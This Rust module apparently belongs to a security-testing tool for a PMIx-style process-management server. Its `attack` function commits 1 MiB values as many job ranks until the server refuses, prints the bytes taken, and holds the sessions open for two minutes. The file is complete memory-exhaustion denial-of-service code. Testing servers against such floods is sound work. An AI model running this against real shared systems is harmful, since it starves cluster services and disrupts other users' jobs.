//! Values that the procs of a job put, as many as the server takes.
use super::session::Session;
use crate::raw::hello;
use anyhow::{Context, Result};
use peal_model::{Commit, Key, Kval, Nspace, Proc, Rank, Request, Scope, Value, code};
use peal_wire::Tag;
use std::{net::SocketAddr, thread, time::Duration};

/// The bytes of one value.
const VALUE: usize = 1 << 20;

/// The time for which the procs stay.
const STAY: Duration = Duration::from_secs(120);

/// Puts values as so many ranks of a job, each until the server refuses; prints how many bytes it took, and stays.
pub fn attack(server: SocketAddr, job: &str, ranks: u32) -> Result<()> {
    let nspace = Nspace::new(job)?;
    let (mut procs, mut taken) = (Vec::new(), 0);
    for rank in 0..ranks {
        let proc = Proc::new(nspace.clone(), Rank(rank));
        let mut session = Session::open(server, &hello(proc))?.context("the server refuses")?;
        let mut tag = Tag::FIRST_REQUEST;
        for number in 0.. {
            let key = Key::new(&format!("parked.{number}"))?;
            let kvals = vec![Kval { key, value: Value::string(&"x".repeat(VALUE)) }];
            let commit = Request::Commit(vec![Commit { scope: Scope::Global, kvals }]);
            if session.ask(tag, &commit)? != code::PMIX_SUCCESS {
                break;
            }
            tag = tag.next_request();
            taken += VALUE;
        }
        procs.push(session);
    }
    println!("{taken}");
    thread::sleep(STAY);
    Ok(())
}
